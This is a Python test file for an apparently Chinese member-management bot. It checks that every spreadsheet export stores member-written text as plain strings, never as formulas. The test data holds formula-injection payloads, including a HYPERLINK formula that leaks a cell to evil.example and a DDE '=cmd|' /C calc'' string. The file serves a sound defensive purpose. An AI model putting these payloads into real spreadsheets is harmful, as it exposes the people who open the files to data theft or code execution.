"""Every spreadsheet Lüzhi writes keeps member-written text inert: the CLI's ``export``
commands, ``reports stats --xlsx`` and the console's downloads, read back with openpyxl.

Members choose their own names (through the roster), report titles and texts, check-in
materials and reflections; a text starting with ``= + - @``, tab or CR (the OWASP CSV-injection
list) must come out as a string cell, never as a formula."""

from __future__ import annotations

import asyncio
import io
from pathlib import Path
from typing import Any

import openpyxl
from aiohttp.test_utils import TestClient, TestServer

from bot.app import create_app
from bot.appkeys import RUNTIME
from bot.cli import main
from bot.clock import FakeClock
from bot.delivery.sandbox import SandboxSender
from handlers.exports import EXPORTS
from handlers.exports.sheets import FORMULA_TRIGGERS
from tests.conftest import make_config
from tests.console_support import add_account, log_in, say, session_csrf

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
ROSTER = (
    "姓名,手机号,企业微信账号,界别,专委会,学习小组,角色\n"
    f'"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",13800138001,zhangwei,'
    "+SUM(1;2),-2+3,@SUM(A1),委员\n"
    '李娜,13800138002,lina,"=1+1",经济委,第1学习小组,委员\n'
    "孙丽,13800138011,sunli,,,,秘书\n"
)
REPORT = "社情民意：=cmd|' /C calc'!A0\n基本情况：=1+1\n存在问题：-1+1\n建议：@SUM(1,2)"


def cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(data: bytes, *expected: str) -> None:
    found = cells(data)
    formulas = [c.value for c in found if c.data_type == "f"]
    assert formulas == []
    risky = [c for c in found if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    assert [c.value for c in risky if c.data_type != "s"] == []
    texts = {c.value for c in found if isinstance(c.value, str)}
    for text in expected:  # the text itself is kept as the member wrote it
        assert any(text in value for value in texts), (text, sorted(texts)[:40])


async def test_every_export_writes_member_text_as_text(
    tmp_path: Path, sqlite_url: str, clock: FakeClock
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    config_file = tmp_path / "lvzhi.toml"
    config_file.write_text(f'[database]\nurl = "{sqlite_url}"\n', encoding="utf-8")

    def cli(*args: str) -> int:
        return main(["--config", str(config_file), *args])

    assert await asyncio.to_thread(cli, "members", "import", str(roster)) == 0
    config = make_config(
        sqlite_url, console={"secure_cookies": False}, scheduler={"enabled": False}
    )
    app = create_app(config, clock=clock, sender=SandboxSender(clock))
    async with TestClient(TestServer(app)) as client:
        runtime = client.app[RUNTIME]
        await say(runtime, "sunli", "开启打卡 @SUM(A1) 每周 周五20:00提醒 周日21:00汇总")
        await say(runtime, "zhangwei", '打卡 读《=1+1》30分钟 心得：=HYPERLINK("x")')
        await say(runtime, "zhangwei", REPORT)
        await say(runtime, "zhangwei", "确认")
        await say(runtime, "lina", REPORT.replace("=cmd", "+cmd"))
        await say(runtime, "lina", "确认")
        await say(
            runtime,
            "sunli",
            "会议通知 全体委员：12月3日下午3点在三楼会议室召开=HYPERLINK座谈会，请于12月1日前回复",
        )
        await say(runtime, "zhangwei", "请假 -cmd|' /C calc'!A0")
        await say(runtime, "zhangwei", "提案：=cmd|' /C calc'!A0\n案据：=1+1\n建议：@SUM(1,2)")
        await say(runtime, "zhangwei", "确认提交")
        async with runtime.db.read() as tx:
            assert await tx.reports.year_facts(2025)  # the reports exist
        await add_account(runtime.db, "admin", role="admin")
        assert (await log_in(client, "admin")).status == 303
        token = await session_csrf(client)
        downloads = {}
        for key in EXPORTS:
            response = await client.post(
                "/console/exports/download",
                data={"csrf_token": token, "key": key, "year": "2025"},
            )
            assert response.status == 200
            downloads[key] = await response.read()

    files = {}
    for key in EXPORTS:
        out = tmp_path / f"{key}.xlsx"
        assert await asyncio.to_thread(cli, "export", key, "--year", "2025", "-o", str(out)) == 0
        files[key] = out.read_bytes()
    stats = tmp_path / "stats.xlsx"
    argv = ("reports", "stats", "--year", "2025", "--xlsx", str(stats))
    assert await asyncio.to_thread(cli, *argv) == 0
    files["stats"] = stats.read_bytes()

    assert_inert(files["members"], HOSTILE_NAME, "+SUM(1;2)", "-2+3", "=1+1")
    assert_inert(files["checkins"], HOSTILE_NAME)
    assert_inert(files["reports"], HOSTILE_NAME, "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0")
    assert_inert(files["stats"], "=cmd|' /C calc'!A0")
    assert_inert(files["meetings"], HOSTILE_NAME, "=HYPERLINK座谈会", "-cmd|' /C calc'!A0")
    assert_inert(files["proposals"], HOSTILE_NAME, "=cmd|' /C calc'!A0")
    for data in downloads.values():
        assert_inert(data, HOSTILE_NAME)
